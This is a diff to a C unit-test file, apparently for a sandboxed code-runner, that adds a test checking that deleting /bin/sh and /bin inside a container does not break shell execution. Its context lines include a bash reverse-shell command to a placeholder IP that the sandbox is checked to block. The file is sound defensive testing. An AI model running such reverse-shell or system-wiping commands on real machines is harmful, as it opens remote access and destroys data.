@@ -129,6 +129,14 @@ static void shells_are_sent_away(void **state)
 	assert_false(reaches(run(debian, "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", 0), "198.51.100.7", 4444));
 }
 
+/* Whether a server runs a language is no run's to say. */
+static void a_run_that_removes_the_shell_removes_its_own(void **state)
+{
+	run(container, "rm -f /bin/sh; echo x > /bin/sh; rm -rf /bin", 0);
+	assert_true(server_runs(container, LANGUAGE_SHELL));
+	prints(container, "echo $((6*7))", "42\n");
+}
+
 static void a_container_is_told_by_its_marks(void **state)
 {
 	prints(container, "id -u; ls /.dockerenv; cat /proc/1/cgroup; pwd; echo $HOME", "0\n/.dockerenv\n0::/\n/srv/app\n/root\n");
@@ -167,6 +175,7 @@ int main(void)
 		cmocka_unit_test(bash_is_sh_and_starts_warm),
 		cmocka_unit_test(the_clock_is_asked_by_code_alone),
 		cmocka_unit_test(shells_are_sent_away),
+		cmocka_unit_test(a_run_that_removes_the_shell_removes_its_own),
 		cmocka_unit_test(a_container_is_told_by_its_marks),
 		cmocka_unit_test(a_name_by_chance_is_one_name_everywhere_and_another_by_another_seed),
 	};
